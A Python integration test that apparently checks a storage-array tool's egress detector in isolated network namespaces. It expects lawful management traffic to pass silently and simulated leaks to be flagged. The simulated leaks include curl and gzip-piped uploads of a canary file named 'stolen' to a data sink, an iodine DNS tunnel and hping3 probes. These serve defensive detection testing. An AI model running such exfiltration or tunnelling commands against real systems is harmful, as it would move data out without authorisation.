#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What real tools say on a wire, and what the bench makes of it: between two network namespaces, captured live by
`arraybench egress -i` and, at the same time, by tcpdump. Lawful tools under a shipped policy must pass in silence,
each unlawful one must be found, by both captures alike."""
import contextlib
import json
import os
import pathlib
import shutil
import signal
import subprocess
import sys
import tempfile
import time

ROOT = pathlib.Path(__file__).resolve().parents[2]
PROGRAM = os.environ["ARRAYBENCH"]
POLICY = ROOT / "profiles" / "policies" / "pure1.json"
NEEDED = ["ip", "tcpdump", "chronyd", "snmptrap", "logger", "rsyslogd", "dnsmasq", "openssl", "curl", "hping3", "iodine", "iodined"]
ARRAY, OUTSIDE = f"abe{os.getpid()}a", f"abe{os.getpid()}o"
HOME = "rest.cloud-support.purestorage.com"
SERVICES = ["192.0.2.1", "192.0.2.14", "192.0.2.40", "192.0.2.53", "192.0.2.61", "192.0.2.77", "192.0.2.123"]


def skip(why):
    print(why)
    sys.exit(77)


def run(*command, check=True, **options):
    done = subprocess.run(list(map(str, command)), capture_output=True, text=True, timeout=60, check=False, **options)
    if check and done.returncode != 0:
        raise RuntimeError(f"{' '.join(map(str, command))}: exit {done.returncode}: {done.stderr.strip()[-400:]}")
    return done


class Running:
    """Started programs, ended by their own process ids."""

    def __init__(self):
        self.processes = []

    def start(self, namespace, *command, **options):
        options.setdefault("stdout", subprocess.DEVNULL)
        options.setdefault("stderr", subprocess.DEVNULL)
        process = subprocess.Popen(["ip", "netns", "exec", namespace, *map(str, command)], stdin=subprocess.DEVNULL, **options)
        self.processes.append(process)
        return process

    def end(self, process, how=signal.SIGTERM):
        if process.poll() is None:
            process.send_signal(how)
            try:
                process.wait(20)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()

    def end_all(self):
        for process in reversed(self.processes):
            self.end(process)


@contextlib.contextmanager
def namespaces():
    names = pathlib.Path("/etc/netns") / ARRAY
    try:
        for name in (ARRAY, OUTSIDE):
            run("ip", "netns", "add", name)
        run("ip", "link", "add", "mgmt", "netns", ARRAY, "type", "veth", "peer", "name", "wire", "netns", OUTSIDE)
        for name, link in ((ARRAY, "mgmt"), (OUTSIDE, "wire")):
            run("ip", "-n", name, "link", "set", "lo", "up")
            run("ip", "netns", "exec", name, "sh", "-c", f"echo 1 > /proc/sys/net/ipv6/conf/{link}/disable_ipv6")
            run("ip", "-n", name, "link", "set", link, "up")
        run("ip", "-n", ARRAY, "address", "add", "192.0.2.130/24", "dev", "mgmt")
        for address in SERVICES:
            run("ip", "-n", OUTSIDE, "address", "add", f"{address}/24", "dev", "wire")
        names.mkdir(parents=True)
        (names / "resolv.conf").write_text("nameserver 192.0.2.53\noptions timeout:2 attempts:2\n")
        yield
    finally:
        for name in (ARRAY, OUTSIDE):
            run("ip", "netns", "del", name, check=False)
        shutil.rmtree(names, ignore_errors=True)


def in_array(*command, check=False, **options):
    return run("ip", "netns", "exec", ARRAY, *command, check=check, **options)


def start_services(running, folder):
    chrony = folder / "chrony.conf"
    chrony.write_text("local stratum 5\nallow 192.0.2.0/24\nbindaddress 192.0.2.123\ncmdport 0\n"
                      f"pidfile {folder}/chronyd.pid\n")
    running.start(OUTSIDE, "chronyd", "-d", "-x", "-U", "-f", chrony)
    running.start(OUTSIDE, "dnsmasq", "--keep-in-foreground", "--no-resolv", "--no-hosts", "--bind-interfaces",
                  "--listen-address=192.0.2.53", f"--address=/{HOME}/192.0.2.40", f"--pid-file={folder}/dnsmasq.pid",
                  "--user=root")
    run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2",
        "-subj", f"/CN={HOME}", "-keyout", folder / "key.pem", "-out", folder / "cert.pem")
    for address, port in (("192.0.2.40", 443), ("192.0.2.77", 8443)):
        running.start(OUTSIDE, "openssl", "s_server", "-accept", f"{address}:{port}", "-www", "-cert", folder / "cert.pem",
                      "-key", folder / "key.pem")
    rsyslog = folder / "rsyslog.conf"
    rsyslog.write_text(f'module(load="imudp")\ninput(type="imudp" address="192.0.2.14" port="514")\n'
                       f'*.* action(type="omfile" file="{folder}/syslog")\n')
    running.start(OUTSIDE, "rsyslogd", "-n", "-f", rsyslog, "-i", folder / "rsyslogd.pid")
    traps = "import socket\ns=socket.socket(type=socket.SOCK_DGRAM)\ns.bind(('192.0.2.61',162))\nwhile True: s.recv(65536)\n"
    running.start(OUTSIDE, "python3", "-c", traps)
    sink = "import socket\ns=socket.create_server(('192.0.2.77',9000))\nwhile True:\n c,_=s.accept()\n while c.recv(65536): pass\n c.close()\n"
    running.start(OUTSIDE, "python3", "-c", sink)
    time.sleep(1.5)


def observed(running, folder, name, act, key=None, policy=POLICY):
    """Findings of a live capture and of tcpdump's file, while `act` happens."""
    capture = folder / f"{name}.pcap"
    options = ["--policy", str(policy), "--format", "json"] + (["--canary-key", str(key)] if key else [])
    live = running.start(ARRAY, PROGRAM, "egress", "-i", "mgmt", *options, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    dump = running.start(ARRAY, "tcpdump", "-i", "mgmt", "-U", "-B", "16384", "-w", capture)
    time.sleep(2)
    act()
    time.sleep(1.5)
    running.end(dump)
    live.send_signal(signal.SIGINT)
    out, errors = live.communicate(timeout=60)
    if live.returncode not in (0, 1):
        raise RuntimeError(f"live capture: exit {live.returncode}: {errors[-400:]}{out[-400:]}")
    filed = run(PROGRAM, "egress", capture, *options, check=False).stdout
    return json.loads(out), json.loads(filed)


def kinds(report):
    return {finding["kind"] for finding in report["findings"] if finding["severity"] == "finding"}


def expect(name, reports, wanted, detail=None):
    for how, report in zip(("live", "tcpdump"), reports):
        assert report["books"]["balances"], f"{name}, {how}: the books do not balance"
        assert report["books"]["captured"]["frames"] > 0, f"{name}, {how}: nothing was captured"
        found = kinds(report)
        summaries = [finding["summary"] for finding in report["findings"]]
        assert (found == set()) if not wanted else wanted <= found, f"{name}, {how}: wanted {wanted}, found {found}: {summaries}"
        if detail:
            assert detail in json.dumps(report["findings"]), f"{name}, {how}: {detail!r} is not in {summaries}"
    print(f"{name}: {sorted(kinds(reports[0])) or 'silent'}, {reports[1]['books']['captured']['frames']} frames")


def lawful(folder):
    def act():
        in_array("chronyd", "-Q", "-t", "10", "-U", "-f", "/dev/null", "server 192.0.2.123 iburst")
        in_array("snmptrap", "-v", "2c", "-c", "public", "192.0.2.61:162", "", "1.3.6.1.6.3.1.1.5.1", check=True)
        in_array("logger", "-n", "192.0.2.14", "-P", "514", "-d", "controller A: write cache nominal", check=True)
        in_array("curl", "-sk", "--max-time", "10", f"https://{HOME}/", check=True)
    return act


def tunnel(running, folder):
    def act():
        server = running.start(OUTSIDE, "iodined", "-f", "-c", "-P", "secret", "-l", "192.0.2.1", "10.99.0.1/24", "t.example.org")
        time.sleep(1)
        client = running.start(ARRAY, "iodine", "-f", "-r", "-T", "NULL", "-P", "secret", "192.0.2.1", "t.example.org")
        time.sleep(6)
        in_array("ping", "-c", "20", "-i", "0.2", "-s", "400", "10.99.0.1")
        running.end(client)
        running.end(server)
    return act


def leak(folder, data):
    def act():
        (folder / "leak.b64").write_bytes(run("base64", data).stdout.encode())
        in_array("curl", "-s", "--max-time", "10", "--data-binary", f"@{folder}/leak.b64", "http://192.0.2.77:9000/")
        in_array("sh", "-c", f"gzip -c {data} | curl -s --max-time 5 --data-binary @- http://192.0.2.77:9000/")
    return act


def stamped_file(folder):
    """A file that the bench has written under a canary key."""
    key, data = folder / "key.json", folder / "lun.img"
    run(PROGRAM, "egress", "--make-canary-key", key)
    data.write_bytes(bytes(1 << 20))
    url = f"file:{data}"
    refused = run(PROGRAM, "load", url, "--rw=write", "--bs=4k", "--runtime=0.1", check=False).stderr
    serial = refused.split("--destroy ")[-1].strip()  # The program says what it wants to hear.
    load = run(PROGRAM, "load", url, "--rw=write", "--bs=4k", "--size=64k", "--runtime=1", "--rate_iops=50", "--verify", "full",
               "--canary-key", key, "--canary-lun", "3", "--destroy", serial, "--overwrite-data", check=False)
    if load.returncode not in (0, 7):
        raise RuntimeError(f"load: exit {load.returncode}: {load.stderr[-400:]}")
    small = folder / "stolen"
    small.write_bytes(data.read_bytes()[:65536])
    return key, small


def main():
    missing = [name for name in NEEDED if not shutil.which(name)]
    if missing:
        skip(f"not installed: {', '.join(missing)}")
    if os.geteuid() != 0:
        skip("making network namespaces needs root")
    running = Running()
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        try:
            with namespaces():
                start_services(running, folder)
                expect("lawful tools", observed(running, folder, "lawful", lawful(folder)), set())
                expect("openssl s_client", observed(running, folder, "tls", lambda: in_array(
                    "openssl", "s_client", "-connect", "192.0.2.77:8443", "-servername", "collector.example.org", input="Q\n")),
                    {"unlisted flow"}, "collector.example.org")
                expect("hping3", observed(running, folder, "hping", lambda: in_array(
                    "hping3", "-c", "3", "-i", "u100000", "-S", "-p", "9999", "192.0.2.77")), {"unlisted flow"}, "192.0.2.77:9999")
                key, data = stamped_file(folder)
                reports = observed(running, folder, "canary", leak(folder, data), key)
                expect("curl with canaries", reports, {"canary", "unlisted flow"}, "base64")
                for report in reports:
                    encodings = {finding["details"]["encoding"] for finding in report["findings"] if finding["kind"] == "canary"}
                    assert {"base64", "raw inside gzip"} <= encodings, encodings
                    luns = {finding["details"].get("LUN") for finding in report["findings"] if finding["kind"] == "canary"}
                    assert "LUN 3" in luns, luns
                if os.path.exists("/dev/net/tun"):
                    expect("iodine", observed(running, folder, "iodine", tunnel(running, folder)), {"DNS tunnel"}, "example.org")
                else:
                    print("no /dev/net/tun: iodine is left out")
        finally:
            running.end_all()


main()
